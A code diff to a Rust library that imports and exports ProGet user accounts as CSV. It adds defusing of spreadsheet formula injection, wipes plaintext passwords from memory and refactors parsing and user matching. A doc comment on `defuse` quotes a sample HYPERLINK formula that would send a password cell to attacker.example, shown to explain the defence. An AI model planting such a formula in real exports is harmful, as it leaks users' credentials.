@@ -35,6 +35,22 @@
 //! Names, display names, emails and groups are trimmed of surrounding
 //! spaces; passwords are taken exactly.
 //!
+//! Records are read by BurntSushi's `csv` crate (around it: the separator
+//! sniffing, the `sep=` line, the byte order mark and UTF-16) and written by
+//! its core, `csv-core`. Every CSV the core writes ([`to_csv`] and the
+//! [credentials sheet](crate::generate::credentials_csv)) is safe to open in
+//! a spreadsheet: a cell that a spreadsheet would run as a formula (one
+//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written
+//! with a `'` before it and quoted, as OWASP's CSV injection guidance says
+//! ([`defuse`]), and a cell holding a `,` or `;` is quoted, so no
+//! spreadsheet splits it, whatever its list separator. Reading takes that `'` off again
+//! (in every column but `Password`, which is taken exactly), so an export
+//! reads back as it was.
+//!
+//! Plaintext passwords read from a CSV are secrets: [`CsvRow`] and
+//! [`PasswordJob`] wipe them (`zeroize`) when dropped, and so does the copy
+//! the reader makes of a text with CR line ends.
+//!
 //! ```
 //! use proget_users_core::{csv, model::{User, UsersFile}};
 //! let mut file = UsersFile::new();
@@ -53,11 +69,16 @@
 //! ```
 
 use crate::model::{User, UsersFile};
+use crate::names::{self, GroupNames, UserIndex};
 use crate::password::{self, PasswordError, PasswordHash};
-use crate::plan::{ImportPlan, UserUpdate};
+use crate::plan::{self, ImportPlan, UserUpdate};
+use crate::report::{self, Report};
+use crate::text::{plural, quoted};
 use crate::validate::is_plausible_email;
+use std::borrow::Cow;
 use std::collections::{HashMap, HashSet};
 use std::fmt;
+use zeroize::{Zeroize, Zeroizing};
 
 /// The header [`to_csv`] writes.
 pub const HEADER: &str = "Name,DisplayName,Email,Password,Groups";
@@ -152,7 +173,7 @@ impl fmt::Display for CsvError {
                 write!(f, "line {line}: a quoted field is never closed")
             }
             CsvError::UnknownColumns(names) => {
-                let names: Vec<String> = names.iter().map(|n| format!("{n:?}")).collect();
+                let names: Vec<String> = names.iter().map(|n| quoted(n).to_string()).collect();
                 write!(
                     f,
                     "the header has unknown column{} {} (the columns are {known})",
@@ -211,10 +232,14 @@ impl fmt::Display for RowProblem {
                 write!(f, "{found} fields where the header has {expected}")
             }
             RowProblem::ImplausibleEmail(email) => {
-                write!(f, "{email:?} does not look like an email address")
+                write!(f, "{} does not look like an email address", quoted(email))
             }
             RowProblem::DuplicateName { name, first_line } => {
-                write!(f, "the user {name:?} is already on line {first_line}")
+                write!(
+                    f,
+                    "the user {} is already on line {first_line}",
+                    quoted(name)
+                )
             }
         }
     }
@@ -258,7 +283,8 @@ pub struct CsvRow {
     pub display_name: Option<String>,
     /// `Some(None)`: remove the address.
     pub email: Option<Option<String>>,
-    /// A plaintext password: a secret, never printed by `Debug`.
+    /// A plaintext password: a secret, never printed by `Debug` and wiped
+    /// when the row is dropped.
     pub password: Option<String>,
     /// `Some(vec![])`: leave every group.
     pub groups: Option<Vec<String>>,
@@ -274,6 +300,13 @@ impl fmt::Debug for CsvRow {
             .field("password", &self.password.as_ref().map(|_| "<redacted>"))
             .field("groups", &self.groups)
             .finish()
+    }
+}
+
+impl Drop for CsvRow {
+    /// Wipes the plaintext password.
+    fn drop(&mut self) {
+        self.password.zeroize();
     }
 }
 
@@ -322,7 +355,16 @@ pub fn parse_csv_bytes(bytes: &[u8]) -> Result<CsvUsers, CsvError> {
 pub fn parse_csv(text: &str) -> Result<CsvUsers, CsvError> {
     let text = text.strip_prefix('\u{feff}').unwrap_or(text);
     let (separator, text, first_line) = separator_of(text);
-    let mut records = read_records(text, separator, first_line)?.into_iter();
+    // The reader counts lines by `\n`; CR and CRLF line ends become `\n`
+    // first (inside quotes too, as the docs promise), so every line is
+    // counted as an editor shows it. The copy may hold passwords: wiped.
+    let text: Zeroizing<String> = Zeroizing::new(if text.contains('\r') {
+        text.replace("\r\n", "\n").replace('\r', "\n")
+    } else {
+        text.to_owned()
+    });
+    let records = read_records(&text, separator, first_line)?;
+    let mut records = records.into_iter();
     let header = loop {
         match records.next() {
             None => return Err(CsvError::Empty),
@@ -356,7 +398,7 @@ pub fn parse_csv(text: &str) -> Result<CsvUsers, CsvError> {
             }));
             continue;
         }
-        let cell = |i: usize| record.fields[i].trim();
+        let cell = |i: usize| undefuse(record.fields[i].trim()).trim();
         let name = cell(name_at);
         if name.is_empty() {
             bad_rows.push(bad(RowProblem::EmptyName));
@@ -371,14 +413,15 @@ pub fn parse_csv(text: &str) -> Result<CsvUsers, CsvError> {
             bad_rows.push(bad(RowProblem::ImplausibleEmail(email.to_owned())));
             continue;
         }
-        if let Some(&first_line) = seen.get(&name.to_lowercase()) {
+        let folded = names::fold(name).into_owned();
+        if let Some(&first_line) = seen.get(&folded) {
             bad_rows.push(bad(RowProblem::DuplicateName {
                 name: name.to_owned(),
                 first_line,
             }));
             continue;
         }
-        seen.insert(name.to_lowercase(), line);
+        seen.insert(folded, line);
         let non_empty = |s: &str| (!s.is_empty()).then(|| s.to_owned());
         rows.push(CsvRow {
             line,
@@ -480,7 +523,8 @@ fn separator_of(text: &str) -> (char, &str, usize) {
     (sep, text, 1)
 }
 
-/// One CSV record and the line it starts on.
+/// One CSV record and the line it starts on. Its fields may hold a
+/// password: wiped when dropped.
 struct Record {
     line: usize,
     fields: Vec<String>,
@@ -492,80 +536,101 @@ impl Record {
     }
 }
 
-/// Splits text into records (RFC 4180, leniently: a quote inside an
-/// unquoted field, or after a closing quote, is kept as a character).
-/// Line breaks inside quotes come out as `\n`.
+impl Drop for Record {
+    fn drop(&mut self) {
+        self.fields.zeroize();
+    }
+}
+
+/// Splits text (with `\n` line ends) into records with the `csv` crate:
+/// RFC 4180, leniently (a quote inside an unquoted field, or after a
+/// closing quote, is kept as a character; rows may have any number of
+/// fields; blank lines are skipped). `first_line` is the line `text`
+/// starts on.
 fn read_records(text: &str, sep: char, first_line: usize) -> Result<Vec<Record>, CsvError> {
+    let Ok(delimiter) = u8::try_from(sep) else {
+        return Err(CsvError::Empty);
+    };
+    let mut reader = ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .delimiter(delimiter)
+        .from_reader(text.as_bytes());
     let mut records = Vec::new();
-    let mut chars = text.chars().peekable();
-    let mut line = first_line;
-    while chars.peek().is_some() {
-        let start = line;
-        let mut fields = Vec::new();
-        let mut field = String::new();
-        let mut quoted = false;
-        let mut quote_line = line;
-        let mut at_field_start = true;
-        loop {
-            let Some(c) = chars.next() else {
-                if quoted {
-                    return Err(CsvError::UnterminatedQuote { line: quote_line });
-                }
-                fields.push(field);
-                break;
-            };
-            if quoted {
-                match c {
-                    '"' if chars.peek() == Some(&'"') => {
-                        chars.next();
-                        field.push('"');
-                    }
-                    '"' => quoted = false,
-                    '\r' | '\n' => {
-                        if c == '\r' && chars.peek() == Some(&'\n') {
-                            chars.next();
-                        }
-                        line += 1;
-                        field.push('\n');
-                    }
-                    c => field.push(c),
-                }
-                continue;
-            }
-            match c {
-                '"' if at_field_start => {
-                    field.clear(); // only spaces stood before the quote
-                    quoted = true;
-                    quote_line = line;
-                    at_field_start = false;
-                }
-                c if c == sep => {
-                    fields.push(std::mem::take(&mut field));
-                    at_field_start = true;
-                }
-                '\r' | '\n' => {
-                    if c == '\r' && chars.peek() == Some(&'\n') {
-                        chars.next();
-                    }
-                    line += 1;
-                    fields.push(field);
-                    break;
-                }
-                c => {
-                    // Spaces before an opening quote do not make it literal.
-                    if !(at_field_start && c == ' ') {
-                        at_field_start = false;
-                    }
-                    field.push(c);
-                }
+    let mut record = ::csv::StringRecord::new();
+    let mut last_start = 0;
+    loop {
+        match reader.read_record(&mut record) {
+            Ok(true) => {}
+            Ok(false) => break,
+            // The text is UTF-8 and every separator is ASCII: fields are
+            // UTF-8 too, so this is not reached; reported all the same.
+            Err(_) => {
+                let line = reader.position().line() as usize;
+                return Err(CsvError::NotUtf8 {
+                    line: line + first_line - 1,
+                });
             }
         }
+        let (line, byte) = record
+            .position()
+            .map_or((1, 0), |p| (p.line() as usize, p.byte() as usize));
+        // The position is taken before the blank lines the reader skips.
+        let blank = text
+            .get(byte..)
+            .map_or(0, |rest| rest.bytes().take_while(|&b| b == b'\n').count());
+        let line = line + blank;
+        last_start = byte + blank;
         records.push(Record {
-            line: start,
-            fields,
+            line: line + first_line - 1,
+            fields: record.iter().map(str::to_owned).collect(),
         });
     }
+    // A quote never closed swallows the rest of the text into the last
+    // record, which the reader accepts; it is an error here.
+    if let Some(line) = open_quote_line(text.get(last_start..).unwrap_or(""), delimiter) {
+        let before = text.get(..last_start).unwrap_or("");
+        let line = first_line + before.matches('\n').count() + line;
+        return Err(CsvError::UnterminatedQuote { line });
+    }
     Ok(records)
+}
+
+/// The line (0-based, within `record`) of a quote that opens a field of the
+/// raw `record` and never closes, as `csv` reads quotes: one opens a field
+/// only as its first character, and `""` inside is a quote.
+fn open_quote_line(record: &str, sep: u8) -> Option<usize> {
+    let bytes = record.as_bytes();
+    let (mut i, mut line, mut at_start) = (0, 0, true);
+    while i < bytes.len() {
+        match bytes[i] {
+            b'"' if at_start => {
+                let opened = line;
+                i += 1;
+                loop {
+                    match bytes.get(i) {
+                        None => return Some(opened),
+                        Some(b'"') if bytes.get(i + 1) == Some(&b'"') => i += 2,
+                        Some(b'"') => break,
+                        Some(b'\n') => {
+                            line += 1;
+                            i += 1;
+                        }
+                        Some(_) => i += 1,
+                    }
+                }
+                at_start = false;
+            }
+            b'\n' => {
+                line += 1;
+                at_start = true;
+            }
+            b if b == sep => at_start = true,
+            _ => at_start = false,
+        }
+        i += 1;
+    }
+    None
 }
 
 /// What to do with bad rows when applying.
@@ -595,18 +660,23 @@ impl CsvPreview {
     /// The preview one change a line (as [`ImportPlan::lines`]), then a
     /// `bad-row` line for each bad row.
     pub fn lines(&self) -> Vec<String> {
-        let mut out = self.changes.lines();
-        out.extend(self.bad_rows.iter().map(|e| format!("bad-row {e}")));
-        out
+        report::lines(self)
+    }
+}
+
+impl Report for CsvPreview {
+    fn each_line(&self, line: &mut dyn FnMut(fmt::Arguments<'_>) -> fmt::Result) -> fmt::Result {
+        self.changes.each_line(line)?;
+        for e in &self.bad_rows {
+            line(format_args!("bad-row {e}"))?;
+        }
+        Ok(())
     }
 }
 
 impl fmt::Display for CsvPreview {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        for line in self.lines() {
-            writeln!(f, "{line}")?;
-        }
-        Ok(())
+        report::write(self, f)
     }
 }
 
@@ -627,22 +697,18 @@ impl fmt::Display for CsvImported {
     /// parts that are zero are left out.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let count = |n: usize, verb: &str, one: &str, many: &str| {
-            (n > 0).then(|| format!("{verb} {n} {}", if n == 1 { one } else { many }))
+            (n > 0).then(|| format!("{verb} {}", plural(n, one, many)))
         };
-        let parts: Vec<String> = [
+        let parts = report::summary([
             count(self.users_added.len(), "added", "user", "users"),
             count(self.users_updated.len(), "updated", "user", "users"),
             count(self.groups_added.len(), "declared", "group", "groups"),
             count(self.passwords_set, "hashed", "password", "passwords"),
             count(self.rows_skipped.len(), "skipped", "bad row", "bad rows"),
-        ]
-        .into_iter()
-        .flatten()
-        .collect();
-        if parts.is_empty() {
-            f.write_str("imported CSV: nothing changed")
-        } else {
-            write!(f, "imported CSV: {}", parts.join(", "))
+        ]);
+        match parts {
+            None => f.write_str("imported CSV: nothing changed"),
+            Some(parts) => write!(f, "imported CSV: {parts}"),
         }
     }
 }
@@ -663,11 +729,11 @@ impl fmt::Display for CsvApplyError {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
             CsvApplyError::BadRows(rows) => {
-                write!(f, "{} bad row", rows.len())?;
-                if rows.len() != 1 {
-                    f.write_str("s")?;
-                }
-                f.write_str(" (fix or skip them)")?;
+                write!(
+                    f,
+                    "{} (fix or skip them)",
+                    plural(rows.len(), "bad row", "bad rows")
+                )?;
                 for row in rows.iter().take(5) {
                     write!(f, "; {row}")?;
                 }
@@ -693,7 +759,8 @@ impl From<PasswordError> for CsvApplyError {
 }
 
 /// A password to hash: the index of its row in [`CsvUsers::rows`] and the
-/// plaintext (a secret, never printed by `Debug`).
+/// plaintext (a secret, never printed by `Debug`, and wiped when the job is
+/// dropped: take it with `std::mem::take` to hand it on).
 #[derive(Clone, PartialEq, Eq)]
 pub struct PasswordJob {
     pub row: usize,
@@ -706,6 +773,12 @@ impl fmt::Debug for PasswordJob {
             .field("row", &self.row)
             .field("password", &"<redacted>")
             .finish()
+    }
+}
+
+impl Drop for PasswordJob {
+    fn drop(&mut self) {
+        self.password.zeroize();
     }
 }
 
@@ -726,68 +799,23 @@ pub fn password_jobs(csv: &CsvUsers) -> Vec<PasswordJob> {
 /// What one row does to the file.
 enum RowAction {
     Add(User),
-    Update(usize, Box<UserUpdate>, User),
+    /// The update, and the user as it becomes.
+    Update(Box<UserUpdate>, User),
     Unchanged(String),
 }
 
-/// Maps group names to the file's spelling, ignoring letter case; a group
-/// new to the file keeps the first spelling the CSV gives it.
-struct GroupNames {
-    /// Lower case to the spelling used.
-    known: HashMap<String, String>,
-    /// Lower case of the declared groups and of those to declare.
-    declared: HashSet<String>,
-    /// Groups to declare, in order of first mention.
-    new: Vec<String>,
-}
-
-impl GroupNames {
-    fn new(file: &UsersFile) -> Self {
-        let mut known = HashMap::new();
-        for g in file.all_groups() {
-            known.entry(g.to_lowercase()).or_insert(g);
-        }
-        GroupNames {
-            known,
-            declared: file.groups.iter().map(|g| g.to_lowercase()).collect(),
-            new: Vec::new(),
-        }
-    }
-
-    fn map(&mut self, groups: &[String]) -> Vec<String> {
-        let mut out: Vec<String> = Vec::with_capacity(groups.len());
-        for g in groups {
-            let folded = g.to_lowercase();
-            let spelled = self
-                .known
-                .entry(folded.clone())
-                .or_insert_with(|| g.clone())
-                .clone();
-            if self.declared.insert(folded) {
-                self.new.push(spelled.clone());
-            }
-            if !out.contains(&spelled) {
-                out.push(spelled);
-            }
-        }
-        out
-    }
-}
-
 /// Works out every row's action (without passwords: those are set by the
-/// caller, so a preview never hashes).
+/// caller, so a preview never hashes). Linear: the file's users are indexed
+/// once ([`UserIndex`]) and matched by ProGet's rule ([`UserIndex::find`]).
 fn plan_rows(file: &UsersFile, csv: &CsvUsers) -> (Vec<RowAction>, Vec<String>) {
-    let mut by_name: HashMap<String, usize> = HashMap::new();
-    for (i, u) in file.users.iter().enumerate() {
-        by_name.entry(u.user_name.to_lowercase()).or_insert(i);
-    }
-    let mut groups = GroupNames::new(file);
+    let index = UserIndex::of(file);
+    let mut groups = GroupNames::of(file);
     let actions = csv
         .rows
         .iter()
         .map(|row| {
-            let row_groups = row.groups.as_ref().map(|g| groups.map(g));
-            match by_name.get(&row.name.to_lowercase()) {
+            let row_groups = row.groups.as_ref().map(|g| groups.adopt(g));
+            match index.find(&row.name) {
                 None => {
                     let mut user = User::new(row.name.clone());
                     if let Some(d) = &row.display_name {
@@ -801,58 +829,53 @@ fn plan_rows(file: &UsersFile, csv: &CsvUsers) -> (Vec<RowAction>, Vec<String>) 
                     }
                     RowAction::Add(user)
                 }
-                Some(&i) => {
-                    let old = &file.users[i];
-                    let mut user = old.clone();
-                    let norm = |s: &Option<String>| s.clone().filter(|s| !s.is_empty());
-                    let mut update = UserUpdate {
-                        user_name: old.user_name.clone(),
-                        password_changed: row.password.is_some(),
-                        ..UserUpdate::default()
-                    };
-                    if let Some(d) = &row.display_name {
-                        if norm(&old.display_name).as_ref() != Some(d) {
-                            update.display_name = Some((norm(&old.display_name), Some(d.clone())));
-                            user.set_display_name(Some(d.clone()));
-                        }
-                    }
-                    if let Some(e) = &row.email {
-                        if norm(&old.email_address) != *e {
-                            update.email = Some((norm(&old.email_address), e.clone()));
-                            user.set_email_address(e.clone());
-                        }
-                    }
-                    if let Some(g) = row_groups {
-                        update.groups_joined = g
-                            .iter()
-                            .filter(|x| !old.groups.contains(x))
-                            .cloned()
-                            .collect();
-                        update.groups_left = old
-                            .groups
-                            .iter()
-                            .filter(|x| !g.contains(x))
-                            .cloned()
-                            .collect();
-                        if !update.groups_joined.is_empty() || !update.groups_left.is_empty() {
-                            user.set_groups(g);
-                        }
-                    }
-                    let unchanged = update
-                        == UserUpdate {
-                            user_name: old.user_name.clone(),
-                            ..UserUpdate::default()
-                        };
-                    if unchanged {
-                        RowAction::Unchanged(old.user_name.clone())
-                    } else {
-                        RowAction::Update(i, Box::new(update), user)
-                    }
-                }
+                Some(i) => update_row(&file.users[i], row, row_groups),
             }
         })
         .collect();
-    (actions, groups.new)
+    (actions, groups.take_new())
+}
+
+/// What a row does to an existing user.
+fn update_row(old: &User, row: &CsvRow, groups: Option<Vec<String>>) -> RowAction {
+    let mut update = UserUpdate {
+        user_name: old.user_name.clone(),
+        password_changed: row.password.is_some(),
+        ..UserUpdate::default()
+    };
+    let mut changed = row.password.is_some();
+    let display = row
+        .display_name
+        .as_deref()
+        .filter(|d| plan::set(&old.display_name) != Some(*d));
+    let email = row
+        .email
+        .as_ref()
+        .filter(|e| plan::set(&old.email_address) != e.as_deref());
+    let groups = groups.filter(|g| !names::same_groups(&old.groups, g));
+    if display.is_none() && email.is_none() && groups.is_none() && !changed {
+        return RowAction::Unchanged(old.user_name.clone());
+    }
+    let mut user = old.clone();
+    if let Some(d) = display {
+        let from = plan::set(&old.display_name).map(str::to_owned);
+        update.display_name = Some((from, Some(d.to_owned())));
+        user.set_display_name(Some(d.to_owned()));
+        changed = true;
+    }
+    if let Some(e) = email {
+        let from = plan::set(&old.email_address).map(str::to_owned);
+        update.email = Some((from, e.clone()));
+        user.set_email_address(e.clone());
+        changed = true;
+    }
+    if let Some(g) = groups {
+        (update.groups_joined, update.groups_left) = names::group_changes(&old.groups, &g);
+        user.set_groups(g);
+        changed = true;
+    }
+    debug_assert!(changed);
+    RowAction::Update(Box::new(update), user)
 }
 
 /// What [`apply`] would do to `file`, changing nothing and hashing nothing.
@@ -866,7 +889,7 @@ pub fn preview(file: &UsersFile, csv: &CsvUsers) -> CsvPreview {
     for action in actions {
         match action {
             RowAction::Add(user) => changes.users_added.push(user.user_name),
-            RowAction::Update(_, update, _) => changes.users_updated.push(*update),
+            RowAction::Update(update, _) => changes.users_updated.push(*update),
             RowAction::Unchanged(name) => unchanged.push(name),
         }
     }
@@ -886,9 +909,12 @@ pub fn apply(
     bad_rows: BadRows,
 ) -> Result<CsvImported, CsvApplyError> {
     check_bad_rows(csv, bad_rows)?;
+    // Hashed from the rows themselves: no copy of a password is made.
     let mut hashes = Vec::new();
-    for job in password_jobs(csv) {
-        hashes.push((job.row, password::hash(&job.password)?));
+    for (row, r) in csv.rows.iter().enumerate() {
+        if let Some(plaintext) = &r.password {
+            hashes.push((row, password::hash(plaintext)?));
+        }
     }
     apply_with_hashes(file, csv, bad_rows, hashes)
 }
@@ -911,20 +937,31 @@ pub fn apply_with_hashes(
 ) -> Result<CsvImported, CsvApplyError> {
     check_bad_rows(csv, bad_rows)?;
     let mut hashes: HashMap<usize, PasswordHash> = hashes.into_iter().collect();
-    if let Some(job) = password_jobs(csv)
-        .into_iter()
-        .find(|j| !hashes.contains_key(&j.row))
-    {
-        return Err(CsvApplyError::MissingHash {
-            line: csv.rows[job.row].line,
-        });
+    let unhashed = csv
+        .rows
+        .iter()
+        .enumerate()
+        .find(|(row, r)| r.password.is_some() && !hashes.contains_key(row));
+    if let Some((_, r)) = unhashed {
+        return Err(CsvApplyError::MissingHash { line: r.line });
     }
     let (actions, groups_added) = plan_rows(file, csv);
+    // Rows that update a user, by the user's index: the file does not
+    // change until every action is known, so the indices hold.
+    let index = UserIndex::of(file);
+    let targets: Vec<Option<usize>> = actions
+        .iter()
+        .map(|a| match a {
+            RowAction::Update(update, _) => index.exact(&update.user_name),
+            _ => None,
+        })
+        .collect();
+    drop(index);
     let mut done = CsvImported {
         rows_skipped: csv.bad_rows.clone(),
         ..CsvImported::default()
     };
-    for (row, action) in actions.into_iter().enumerate() {
+    for ((row, action), target) in actions.into_iter().enumerate().zip(targets) {
         let hash = if csv.rows[row].password.is_some() {
             hashes.remove(&row)
         } else {
@@ -943,10 +980,12 @@ pub fn apply_with_hashes(
                 done.users_added.push(user.user_name.clone());
                 file.users.push(user);
             }
-            RowAction::Update(i, _, mut user) => {
+            RowAction::Update(_, mut user) => {
                 done.passwords_set += set_password(&mut user);
                 done.users_updated.push(user.user_name.clone());
-                file.users[i] = user;
+                if let Some(slot) = target.and_then(|i| file.users.get_mut(i)) {
+                    *slot = user;
+                }
             }
             RowAction::Unchanged(_) => {}
         }
@@ -956,66 +995,198 @@ pub fn apply_with_hashes(
     Ok(done)
 }
 
-/// The users of `file` as CSV (header [`HEADER`], CRLF line ends), without
-/// secrets: the `Password` column is empty. `users` picks users by exact
-/// name (unknown names are ignored); `None` takes all. Users come in file
-/// order. Reading the text back with [`parse_csv`] gives the same names,
-/// display names, emails and groups (a group name holding `;` cannot
-/// survive that, as `;` separates groups).
+/// The users of `file` as CSV (header [`HEADER`], CRLF line ends, cells
+/// [defused](defuse) and quoted where needed), without secrets: the `Password`
+/// column is empty. `users` picks users by exact name (unknown names are
+/// ignored); `None` takes all. Users come in file order. Reading the text
+/// back with [`parse_csv`] gives the same names, display names, emails and
+/// groups (a group name holding `;` cannot survive that, as `;` separates
+/// groups).
 ///
 /// ```
 /// use proget_users_core::{csv::to_csv, model::{User, UsersFile}};
 /// let mut file = UsersFile::new();
 /// let mut user = User::new("jDoe");
-/// user.set_display_name(Some("Doe, John".into()));
+/// user.set_display_name(Some("=Doe, John".into()));
 /// user.set_groups(vec!["Dev".into(), "Ops".into()]);
 /// file.users.push(user);
-/// assert_eq!(to_csv(&file, None), "Name,DisplayName,Email,Password,Groups\r\njDoe,\"Doe, John\",,,\"Dev;Ops\"\r\n");
+/// assert_eq!(to_csv(&file, None), "Name,DisplayName,Email,Password,Groups\r\njDoe,\"'=Doe, John\",,,\"Dev;Ops\"\r\n");
 /// ```
 pub fn to_csv(file: &UsersFile, users: Option<&[&str]>) -> String {
     let wanted: Option<HashSet<&str>> = users.map(|u| u.iter().copied().collect());
-    let mut out = String::with_capacity(64 + file.users.len() * 64);
-    out.push_str(HEADER);
-    out.push_str("\r\n");
-    for user in &file.users {
-        if wanted
-            .as_ref()
-            .is_some_and(|w| !w.contains(user.user_name.as_str()))
-        {
-            continue;
-        }
-        let groups = user.groups.join(";");
-        write_record(
-            &mut out,
-            &[
-                &user.user_name,
-                user.display_name.as_deref().unwrap_or(""),
-                user.email_address.as_deref().unwrap_or(""),
-                "",
-                &groups,
-            ],
-        );
+    let chosen = || {
+        file.users.iter().filter(|user| {
+            wanted
+                .as_ref()
+                .is_none_or(|w| w.contains(user.user_name.as_str()))
+        })
+    };
+    fn text(v: &Option<String>) -> &str {
+        v.as_deref().unwrap_or("")
     }
-    out
+    let mut sheet = Sheet::new(
+        HEADER,
+        chosen().map(|u| {
+            let groups: usize = u.groups.iter().map(|g| g.len() + 1).sum();
+            u.user_name.len() + text(&u.display_name).len() + text(&u.email_address).len() + groups
+        }),
+        Column::ALL.len(),
+    );
+    for user in chosen() {
+        let groups = user.groups.join(";");
+        sheet.row(&[
+            &user.user_name,
+            text(&user.display_name),
+            text(&user.email_address),
+            "",
+            &groups,
+        ]);
+    }
+    sheet.finish()
 }
 
-/// Appends one CSV record with a CRLF, quoting fields that need it (those
-/// holding `,`, `;`, a quote or a line break, or with surrounding spaces).
-pub(crate) fn write_record(out: &mut String, fields: &[&str]) {
-    for (i, field) in fields.iter().enumerate() {
-        if i > 0 {
-            out.push(',');
+/// The first characters that make a spreadsheet run a cell as a formula
+/// (OWASP's list): `=`, `+`, `-`, `@`, a tab and a carriage return.
+pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `cell` made safe for a spreadsheet: one that starts with one of
+/// [`FORMULA_STARTS`] (or with `'`s and then one of them) gets a `'` before
+/// it, so it is shown as text and never run (`=HYPERLINK("http://attacker.example/?p="&D2,"Click")` would send
+/// the password in column D away). The CSV writers quote such a cell too.
+///
+/// ```
+/// use proget_users_core::csv::defuse;
+/// assert_eq!(defuse("=1+2"), "'=1+2");
+/// assert_eq!(defuse("-x"), "'-x");
+/// assert_eq!(defuse("John"), "John");
+/// ```
+pub fn defuse(cell: &str) -> Cow<'_, str> {
+    if runs(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// Whether a spreadsheet would run `cell`, or would once a `'` before it
+/// were taken off: a cell that starts with `'`s and then a formula gets one
+/// more `'` too, so that reading takes off exactly the one it added.
+fn runs(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
+}
+
+/// A cell as [`defuse`] found it: the `'` it adds is taken off again.
+fn undefuse(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if runs(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// A CSV being written: a header as given, then rows of cells with CRLF
+/// line ends. Each cell is [defused](defuse), and quoted (by `csv-core`,
+/// which doubles the quotes inside) when it was defused or holds a `,`,
+/// `;`, quote, tab or line break, or starts or ends with a space: a
+/// spreadsheet whose list separator is `;` does not split it either. The
+/// buffer is sized up front for the worst case (every character a quote),
+/// so it never grows and leaves no copy of a cell (a password) behind in
+/// freed memory; should it have to grow, the old buffer is wiped.
+pub(crate) struct Sheet {
+    out: Vec<u8>,
+    len: usize,
+}
+
+impl Sheet {
+    /// A sheet of `columns` columns under `header` (written as it is), for
+    /// rows whose cells hold `row_sizes` bytes together.
+    pub(crate) fn new(
+        header: &str,
+        row_sizes: impl Iterator<Item = usize>,
+        columns: usize,
+    ) -> Self {
+        // A cell is at most 2 quotes, a `'` and twice its bytes; then the
+        // separators and the line end.
+        let rows: usize = row_sizes.map(|n| 2 * n + 4 * columns + 2).sum();
+        let mut sheet = Sheet {
+            out: vec![0; header.len() + 2 + rows],
+            len: 0,
+        };
+        sheet.put(header.as_bytes());
+        sheet.put(b"\r\n");
+        sheet
+    }
+
+    /// Appends one row.
+    pub(crate) fn row(&mut self, cells: &[&str]) {
+        for (i, cell) in cells.iter().enumerate() {
+            if i > 0 {
+                self.put(b",");
+            }
+            let mut cell = defuse(cell);
+            let quote = matches!(cell, Cow::Owned(_))
+                || cell.contains([',', ';', '"', '\r', '\n', '\t'])
+                || cell.starts_with(' ')
+                || cell.ends_with(' ');
+            if quote {
+                self.put(b"\"");
+                let mut input = cell.as_bytes();
+                loop {
+                    let (result, read, wrote) =
+                        ::csv_core::quote(input, &mut self.out[self.len..], b'"', b'\\', true);
+                    self.len += wrote;
+                    input = &input[read..];
+                    match result {
+                        ::csv_core::WriteResult::InputEmpty => break,
+                        ::csv_core::WriteResult::OutputFull => self.grow(),
+                    }
+                }
+                self.put(b"\"");
+            } else {
+                self.put(cell.as_bytes());
+            }
+            if let Cow::Owned(copy) = &mut cell {
+                copy.zeroize();
+            }
         }
-        let needs_quotes = field.contains([',', ';', '"', '\r', '\n', '\t'])
-            || field.starts_with(' ')
-            || field.ends_with(' ');
-        if needs_quotes {
-            out.push('"');
-            out.push_str(&field.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(field);
+        self.put(b"\r\n");
+    }
+
+    /// Appends bytes as they are, growing the buffer if it must.
+    fn put(&mut self, bytes: &[u8]) {
+        while self.out.len() - self.len < bytes.len() {
+            self.grow();
+        }
+        self.out[self.len..self.len + bytes.len()].copy_from_slice(bytes);
+        self.len += bytes.len();
+    }
+
+    /// Doubles the buffer, wiping the old one.
+    fn grow(&mut self) {
+        let mut bigger = vec![0; self.out.len() * 2 + 64];
+        bigger[..self.len].copy_from_slice(&self.out[..self.len]);
+        let mut old = std::mem::replace(&mut self.out, bigger);
+        old.zeroize();
+    }
+
+    /// The text written.
+    pub(crate) fn finish(mut self) -> String {
+        self.out.truncate(self.len);
+        let out = std::mem::take(&mut self.out);
+        match String::from_utf8(out) {
+            Ok(text) => text,
+            // Cells are text and the rest ASCII, so this is not reached.
+            Err(e) => {
+                let mut bytes = e.into_bytes();
+                let text = String::from_utf8_lossy(&bytes).into_owned();
+                bytes.zeroize();
+                text
+            }
         }
     }
-    out.push_str("\r\n");
+}
+
+impl Drop for Sheet {
+    fn drop(&mut self) {
+        self.out.zeroize();
+    }
 }
